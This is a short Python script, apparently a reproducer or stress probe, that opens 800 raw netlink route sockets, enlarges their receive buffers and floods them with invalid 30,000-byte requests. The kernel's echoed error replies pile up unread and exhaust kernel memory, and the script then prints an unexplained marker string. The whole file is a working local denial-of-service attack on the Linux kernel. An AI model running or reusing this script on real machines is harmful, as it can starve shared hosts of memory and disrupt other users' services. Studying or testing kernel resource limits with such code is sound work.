"""Lets more than the memory it may have wait unread at sockets of the kernel, which answers with what it is sent."""

import socket
import struct
import time

# A request of a kind that there is not, so that the answer is an error with the request in it.
REQUEST = struct.pack("IHHII", 30_000, 9999, 1, 1, 0).ljust(30_000, b"x")

sockets = []
for _ in range(800):
    own = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    own.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    own.setblocking(False)
    sockets.append(own)
    try:
        for _ in range(32):
            own.sendto(REQUEST, (0, 0))
    except OSError:
        pass
time.sleep(1)
print('[[["red"],["white"]]]')
